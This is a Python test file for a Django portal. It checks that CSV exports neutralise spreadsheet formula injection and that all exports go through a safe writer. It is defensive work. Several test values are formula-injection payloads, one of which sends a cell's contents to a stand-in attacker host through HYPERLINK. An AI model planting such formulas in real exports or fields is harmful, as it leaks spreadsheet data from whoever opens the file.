"""CSV files the portal writes cannot carry spreadsheet formulas: a cell that a spreadsheet
would run (``=HYPERLINK(…)`` typed as a preferred name) is written as text."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from recovery_portal import csvsafe
from tests.factories import ClientFactory

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value):
    out = io.StringIO()
    csvsafe.writer(out).writerow([value])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + value]


@pytest.mark.parametrize("value", ["Jamie", "O'Neil", "2026-01-02", "", 42, None, "a=b"])
def test_ordinary_cells_are_left_alone(value):
    out = io.StringIO()
    csvsafe.writer(out).writerows([[value]])
    expected = "" if value is None else str(value)
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [expected]


def test_a_preferred_name_with_a_formula_reaches_the_client_list_as_text(
    client, supervisor, case_manager
):
    ClientFactory(
        case_manager=case_manager,
        actor=supervisor,
        legal_first_name="Sam",
        legal_last_name="Sample",
        preferred_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
    )
    client.force_login(supervisor)
    response = client.get(reverse("clients:list_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    column = rows[0].index("preferred name")
    assert rows[1][column] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_every_csv_the_portal_writes_goes_through_the_safe_writer():
    offenders = []
    for path in ROOT.glob("**/*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "var/", "bench/")) or relative.endswith(
            "csvsafe.py"
        ):
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == [], "use recovery_portal.csvsafe.writer() instead of csv.writer()"
